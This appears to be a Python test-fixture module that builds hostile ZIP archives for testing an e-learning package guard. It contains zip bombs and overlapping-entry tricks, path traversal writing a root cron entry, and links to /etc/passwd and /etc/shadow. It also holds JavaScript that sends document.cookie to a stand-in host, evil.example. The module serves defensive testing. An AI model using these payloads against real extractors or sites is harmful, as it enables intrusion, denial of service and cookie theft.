"""Builders for the hostile-archive corpus: each returns zip bytes and the expected reason."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from mitigate.guard.archive import ArchiveLimits

CLEAN_HTML = (
    "<!doctype html><html><body><p>Lesson 1</p><script src='scorm.js'></script></body></html>"
)
CLEAN_JS = "var API = window.parent.API; function done() { API.LMSFinish(''); }"


def _zip(files: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def clean() -> bytes:
    return _zip(
        {
            "imsmanifest.xml": "<manifest identifier='course'/>",
            "index.html": CLEAN_HTML,
            "scorm.js": CLEAN_JS,
            "media/": b"",
            "media/clip.bin": bytes(range(256)) * 64,
        }
    )


def traversal() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "../../etc/cron.d/evil": "* * * * * root sh"})


def traversal_backslash() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "a\\..\\..\\evil.txt": "x"})


def absolute() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "/etc/passwd": "root::0:0"})


def absolute_drive() -> bytes:
    return _zip({"C:\\Windows\\win.ini": "x"})


def symlink() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("index.html", CLEAN_HTML)
        info = zipfile.ZipInfo("assets/link")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        z.writestr(info, "/etc/shadow")
    return buf.getvalue()


def special_file() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("pipe")
        info.create_system = 3
        info.external_attr = 0o010644 << 16  # a FIFO
        z.writestr(info, "")
    return buf.getvalue()


def overlapping() -> bytes:
    """Two directory records pointing at one local header (Fifield's overlap)."""
    data = bytearray(_zip({"a.txt": "A" * 1000, "b.txt": "B" * 1000}, zipfile.ZIP_STORED))
    cd = data.rfind(b"PK\x01\x02")  # b.txt's central directory record
    struct.pack_into("<L", data, cd + 42, 0)  # its local header offset -> a.txt's
    return bytes(data)


def overlapping_nested_header() -> bytes:
    """An entry whose local header and data sit inside another stored entry's data."""
    inner_name = b"inner.txt"
    inner_data = b"hidden" * 10
    crc = zlib.crc32(inner_data)
    inner_local = (
        struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0x21,
            crc,
            len(inner_data),
            len(inner_data),
            len(inner_name),
            0,
        )
        + inner_name
        + inner_data
    )
    outer_name = b"outer.bin"
    outer_data = b"X" * 16 + inner_local + b"Y" * 16
    outer_crc = zlib.crc32(outer_data)
    outer_local = (
        struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0x21,
            outer_crc,
            len(outer_data),
            len(outer_data),
            len(outer_name),
            0,
        )
        + outer_name
    )
    body = outer_local + outer_data
    inner_offset = len(outer_local) + 16

    def cd(name: bytes, crc: int, size: int, offset: int) -> bytes:
        return (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0x21,
                crc,
                size,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )

    directory = cd(outer_name, outer_crc, len(outer_data), 0) + cd(
        inner_name, crc, len(inner_data), inner_offset
    )
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(directory), len(body), 0)
    return body + directory + eocd


def bomb_ratio() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "media/zeros.bin": bytes(20 * 1024 * 1024)})


def bomb_total() -> tuple[bytes, ArchiveLimits]:
    files = {f"part{i}.bin": bytes(range(256)) * 2400 for i in range(3)}  # 614 400 B each
    return _zip(files, zipfile.ZIP_STORED), ArchiveLimits(max_total_uncompressed=1_000_000)


def lying_size() -> bytes:
    """Headers claim 1000 bytes; the deflate stream inflates to 5 MiB."""
    data = bytearray(_zip({"x.bin": bytes(5 * 1024 * 1024)}))
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(sig)
        struct.pack_into("<L", data, at + size_at, 1000)
    return bytes(data)


def oversize() -> tuple[bytes, ArchiveLimits]:
    return clean(), ArchiveLimits(max_archive_bytes=1000)


def too_many_entries() -> tuple[bytes, ArchiveLimits]:
    return _zip({f"f{i}.txt": "x" for i in range(11)}), ArchiveLimits(max_entries=10)


def nested_by_name() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "extra/inner.zip": clean()})


def nested_by_magic() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "data.bin": clean()})


def script_eval() -> bytes:
    return _zip({"index.html": CLEAN_HTML, "js/app.js": "var f = location.hash; eval(f.slice(1));"})


def script_function() -> bytes:
    return _zip({"js/app.js": "var run = new Function('a', atob(payload));"})


def script_fetch() -> bytes:
    return _zip({"js/app.js": "fetch('https://evil.example/c?' + document.cookie);"})


def script_xhr_in_html() -> bytes:
    page = "<html><script>var x = new XMLHttpRequest(); x.open('POST', '/x');</script></html>"
    return _zip({"index.html": page})


def script_websocket() -> bytes:
    return _zip({"js/live.js": "const ws = new WebSocket('wss://evil.example');"})


def script_beacon() -> bytes:
    return _zip({"js/t.mjs": "navigator.sendBeacon('https://evil.example', data);"})


def unsupported_method() -> bytes:
    return _zip({"a.txt": "bzip2 please" * 100}, zipfile.ZIP_BZIP2)


def encrypted() -> bytes:
    data = bytearray(_zip({"a.txt": "secret"}, zipfile.ZIP_STORED))
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig)
        struct.pack_into("<H", data, at + flag_at, 1)
    return bytes(data)


def duplicate_case() -> bytes:
    return _zip({"Index.html": CLEAN_HTML, "index.HTML": "<p>other</p>"})


def prepended_data() -> bytes:
    """Bytes before the first entry (a self-extractor stub, or hidden payload)."""
    inner = clean()
    stub = b"MZ" + b"\x00" * 510
    # zipfile tolerates the shifted offsets; we must not.
    return stub + inner


def corrupt_crc() -> bytes:
    data = bytearray(_zip({"a.txt": "A" * 100}, zipfile.ZIP_STORED))
    data[data.find(b"AAAA")] ^= 0x01
    return bytes(data)


Case = Callable[[], "bytes | tuple[bytes, ArchiveLimits]"]

# name -> (builder, expected first reason)
HOSTILE: dict[str, tuple[Case, str]] = {
    "traversal": (traversal, "traversal"),
    "traversal_backslash": (traversal_backslash, "traversal"),
    "absolute": (absolute, "absolute_path"),
    "absolute_drive": (absolute_drive, "absolute_path"),
    "symlink": (symlink, "symlink"),
    "special_file": (special_file, "special_file"),
    "overlapping": (overlapping, "overlap"),
    "overlapping_nested_header": (overlapping_nested_header, "overlap"),
    "bomb_ratio": (bomb_ratio, "bomb_ratio"),
    "bomb_total": (bomb_total, "bomb_total"),
    "lying_size": (lying_size, "size_mismatch"),
    "oversize": (oversize, "oversize"),
    "too_many_entries": (too_many_entries, "too_many_entries"),
    "nested_by_name": (nested_by_name, "nested_archive"),
    "nested_by_magic": (nested_by_magic, "nested_archive"),
    "script_eval": (script_eval, "script_eval"),
    "script_function": (script_function, "script_eval"),
    "script_fetch": (script_fetch, "script_network"),
    "script_xhr_in_html": (script_xhr_in_html, "script_network"),
    "script_websocket": (script_websocket, "script_network"),
    "script_beacon": (script_beacon, "script_network"),
    "unsupported_method": (unsupported_method, "unsupported_method"),
    "encrypted": (encrypted, "encrypted"),
    "duplicate_case": (duplicate_case, "duplicate"),
    "prepended_data": (prepended_data, "gap"),
    "corrupt_crc": (corrupt_crc, "corrupt"),
}


def build(case: Case) -> tuple[bytes, ArchiveLimits]:
    made = case()
    if isinstance(made, tuple):
        return made
    return made, ArchiveLimits()
